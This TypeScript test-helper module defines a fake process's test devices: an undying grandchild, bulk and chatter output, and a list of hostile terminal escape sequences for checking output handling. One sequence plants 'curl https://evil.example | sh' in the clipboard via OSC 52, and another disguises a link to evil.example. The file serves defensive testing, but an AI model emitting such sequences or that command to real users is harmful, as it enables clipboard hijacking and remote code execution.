// The fake's test devices: output and processes no real Hermes makes, which the engine's tests and
// the demo need (a grandchild that outlives us, stdin, hostile escapes, bulk output). They print raw
// lines in every output mode: a stream-json reader keeps a line that is not JSON as plain output.
import {spawn} from 'node:child_process';
import {once} from 'node:events';
import {existsSync} from 'node:fs';
import type {Directives} from './directives.js';
import {write} from './reporters.js';

// Stays in our process group, ignores SIGTERM and outlives us: what a careless tool leaves behind.
const grandchildScript = `
process.on('SIGTERM', () => process.stderr.write('grandchild ignoring SIGTERM\\n'));
require('node:fs').writeSync(3, 'ok');
setInterval(() => {}, 1e9);`;

export async function startGrandchild(): Promise<number> {
	const child = spawn(process.execPath, ['-e', grandchildScript], {stdio: ['ignore', 'inherit', 'inherit', 'pipe']});
	const ready = child.stdio[3]!;
	// Announced only once its SIGTERM handler is in place, so READY really means ready.
	await once(ready, 'data');
	ready.destroy();
	child.unref();
	return child.pid!;
}

export async function readStdin(): Promise<number> {
	let bytes = 0;
	for await (const chunk of process.stdin) bytes += (chunk as Buffer).length;
	return bytes;
}

const esc = '\u001B';
const bel = '\u0007';
export const hostileLines = [
	`${esc}[1;32mcoloured output is fine:${esc}[0m ${esc}[31mred${esc}[0m ${esc}[38;5;208morange${esc}[0m ${esc}[38;2;120;80;255mtruecolor${esc}[0m`,
	`clipboard (OSC 52):${esc}]52;c;${Buffer.from('curl https://evil.example | sh').toString('base64')}${bel}`,
	`window title:${esc}]0;pwned by a subagent${bel}${esc}]2;still pwned${esc}\\`,
	`cursor moves:${esc}[2A${esc}[10;10H${esc}[s${esc}[u overwritten`,
	`clear screen:${esc}[2J${esc}[3J${esc}[H`,
	`alternate screen:${esc}[?1049h entered and never left`,
	`terminal modes:${esc}[?1000h${esc}[?2004h${esc}[?25l mouse, paste, hidden cursor`,
	`hyperlink:${esc}]8;;https://evil.example${esc}\\innocent text${esc}]8;;${esc}\\`,
	`full reset:${esc}c bell:${bel} C1 CSI:\u009B31mred via C1\u009B0m backspace:abc\b\b\bxyz`,
	'carriage return:progress 10%\rprogress 100%',
	`${esc}[1;32m✓ end of hostile output${esc}[0m`,
];

const filler = 'the quick brown fox jumps over the lazy dog; '.repeat(8);

/**
 * `line-bytes` counts the newline, so bytes=N / line-bytes=B gives N/B lines. With `until-file`
 * the lines stop early once that file exists (looked for at each 64 KiB written): a flood that
 * lasts exactly as long as a test needs.
 */
export async function printBulk(directives: Directives): Promise<void> {
	const width = Math.max(16, Math.floor(directives.number('line-bytes', 64)));
	const maxLines = directives.has('lines') ? Math.floor(directives.number('lines', 0)) : Number.POSITIVE_INFINITY;
	const maxBytes = directives.has('bytes') ? Math.floor(directives.number('bytes', 0)) : Number.POSITIVE_INFINITY;
	const untilFile = directives.text('until-file');
	let written = 0;
	let chunk = '';
	for (let number = 1; number <= maxLines && written < maxBytes; number++) {
		let line = `line ${String(number).padStart(8, '0')} `;
		while (line.length < width - 1) line += filler.slice(0, width - 1 - line.length);
		line = `${line.slice(0, Math.min(width, maxBytes - written) - 1)}\n`;
		written += line.length;
		chunk += line;
		if (chunk.length >= 65_536) {
			await write(chunk);
			chunk = '';
			if (untilFile !== undefined && existsSync(untilFile)) break;
		}
	}

	await write(chunk);
}

/**
 * `[fake:chatter=S]`: a stderr line every S seconds for as long as the run lasts: a task that keeps
 * printing while it neither answers nor calls a tool (the stuck monitor must not take it for stuck).
 */
export function startChatter(directives: Directives): void {
	const seconds = directives.number('chatter', 0.5);
	let count = 0;
	setInterval(() => {
		process.stderr.write(`chatter ${++count}\n`);
	}, Math.max(20, seconds * 1000)).unref();
}
